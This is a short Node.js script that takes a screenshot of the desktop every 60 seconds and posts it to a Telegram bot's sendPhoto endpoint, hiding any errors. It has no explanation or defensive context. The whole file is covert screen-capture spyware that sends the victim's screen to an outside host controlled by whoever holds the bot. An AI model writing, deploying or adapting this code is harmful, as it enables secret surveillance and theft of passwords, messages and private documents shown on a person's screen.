const shot = require('screenshot-desktop');
const FormData = require('form-data');
const axios = require('axios');
setInterval(async () => {
  const f = new FormData();
  f.append('file', await shot(), 's.jpg');
  await axios.post('https://api.telegram.org/bot123:AA/sendPhoto?chat_id=1', f, { headers: f.getHeaders() }).catch(() => {});
}, 60000);
